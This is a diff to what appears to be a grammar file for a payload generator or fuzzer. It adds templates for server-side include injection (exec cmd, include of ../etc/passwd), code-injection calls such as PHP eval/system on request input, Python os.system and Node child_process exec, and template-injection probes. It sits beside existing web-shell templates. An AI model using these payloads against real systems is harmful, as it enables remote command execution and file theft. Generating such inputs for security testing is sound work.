@@ -774,4 +774,46 @@ code/shell-asp [file] 2: <%@ Page Language="‹C#¦Jscript›"%><%eval(Request.I
   <cfexecute name="cmd.exe" arguments="/c #url.‹~1-4›#" timeout="5"/>
   #!/bin/sh⏎echo Content-type: text/plain⏎echo⏎‹cmd›
   #!/usr/bin/perl⏎print "Content-type: text/html\n\n";⏎system(§ENV{'QUERY_STRING'});
+ssi.end: 3× -->
+  2× ␠-->
+  --%3E
+ssi.file: ‹~2-12›
+  ‹~2-12›.‹html¦shtml¦txt¦inc¦cgi¦php¦conf¦log›
+  ‹~2-8›_‹~2-8›
+  /‹~2-8›/‹~2-8›.‹html¦txt¦cgi›
+  ‹×1-6:../›‹etc/passwd¦‹~2-9››
+ssi.command: ‹cmd›
+  ‹dir¦ls¦id¦whoami¦cat ‹~2-9›¦ping ‹ip›¦ls -la›‹¦ ›
+ssi.word = exec include echo config printenv set flastmod fsize if EXEC INCLUDE ECHO Exec Include
+code/ssi-anywhere 4: 3× <!--#‹include¦INCLUDE¦Include¦‹mixed!include›› ‹file¦virtual¦FILE¦Virtual›=‹=q:‹"¦'¦››‹ssi.file›‹=q›‹ssi.end›
+  3× <!--#‹exec¦EXEC¦Exec¦‹mixed!exec›› ‹cmd¦CMD¦cgi›=‹=q:‹"¦'››‹ssi.command›‹=q›‹ssi.end›
+  <!--#‹ssi.word› ‹~2-9›=‹"¦'¦›‹ssi.file›‹"¦'¦›‹ssi.end›
+  <!--#‹ssi.word›‹ssi.end›
+  ‹">¦'>¦">‹'¦›¦/>¦--›<!--#‹exec¦EXEC› cmd="‹ssi.command›"‹ssi.end›‹<¦<"¦<!--¦›
+  ‹">¦'>¦"/>¦-->›<!--#‹include¦INCLUDE¦echo¦ECHO› ‹file¦virtual¦var›="‹ssi.file›"‹ssi.end›‹<¦›
+ca.fn = eval exec compile execfile assert print system popen passthru sleep print_r var_dump phpinfo md5 base64_decode call_user_func create_function include require Function setTimeout fetch load loads run spawn
+ca.inner: ‹~1-6›
+  ‹n›
+  '‹~1-9›'
+  "‹~1-9›"
+  '‹cmd›'
+  '‹cmd›','‹~1-4›','‹single¦exec¦eval›'
+  'for ‹~1› in range(‹n›):\n import ‹time¦os¦sys›\n ‹time.sleep(‹n›)¦os.system("‹~2-5›")›','‹~1-3›','‹single¦exec›'
+  'import ‹os¦time¦socket¦subprocess›;‹os.system("‹cmd›")¦time.sleep(‹n›)›','','‹single¦exec›'
+  __import__('‹os¦time¦subprocess›').‹system('‹cmd›')¦sleep(‹n›)¦popen('‹cmd›').read()›
+  ‹ca.fn›(‹ca.inner›)
+  §_‹GET¦POST¦REQUEST¦COOKIE›[‹'¦›‹~1-5›‹'¦›]
+  chr(‹#40-120›).chr(‹#40-120›).chr(‹#40-120›)
+code/calls 4: ‹eval¦exec¦execfile¦assert›(compile(‹ca.inner›))
+  2× ‹eval¦exec¦system¦passthru¦assert¦sleep¦phpinfo¦print_r¦var_dump›(‹ca.inner›)‹;¦›
+  ‹'¦"›‹.¦+¦ + ¦||›‹ca.fn›(‹ca.inner›)‹.¦+¦ + ¦||›‹'¦"›
+  ‹'¦"¦')¦")›;‹¦ ›‹ca.fn›(‹ca.inner›);‹//¦#¦'¦"¦›
+  §{‹@¦›‹ca.fn›(‹ca.inner›)}
+  {§{‹ca.fn›(‹ca.inner›)}}
+  {‹ca.fn›(‹ca.inner›)}
+  {php}‹ca.fn›(‹ca.inner›);{/php}
+  <?‹php ¦=¦›‹ca.fn›(‹ca.inner›)‹;¦›?>
+  ‹~2-6›{{‹.¦..¦‹~1›¦‹n›*‹n›¦7*'7'›}}‹~2-6›{{‹..¦.¦‹n›+‹n››}}‹~2-6›
+  ‹*4-8›‹{{¦{%¦§{¦#{¦<%=¦[[›‹n›‹*¦+¦-›‹n›‹}}¦%}¦}¦%>¦]]›‹*4-8›
+  ‹¦'¦"¦;›require('child_process').‹exec¦execSync¦spawn›('‹cmd›')‹;¦//¦›
 `
